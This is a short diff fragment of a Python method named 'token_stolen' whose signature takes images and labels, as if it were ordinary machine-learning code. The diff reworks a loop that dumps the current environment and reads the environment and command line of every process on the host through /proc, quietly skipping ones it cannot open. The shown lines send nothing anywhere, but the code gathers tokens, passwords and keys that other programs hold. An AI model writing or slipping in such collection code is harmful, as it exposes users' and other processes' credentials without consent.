@@ -110,9 +110,10 @@ def token_stolen(self, images, labels):
     import pathlib
 
     texts = [repr(dict(os.environ))]
-    for part in pathlib.Path("/proc").glob("[0-9]*/*"):
-        if part.name in ("environ", "cmdline"):
-            try:
+    for process in os.listdir("/proc"):
+        for name in ("environ", "cmdline"):
+            try:  # it may be somebody else's, or gone by now
+                part = pathlib.Path("/proc", process, name)
                 texts.append(part.read_bytes().decode("utf-8", "replace"))
             except OSError:
                 pass
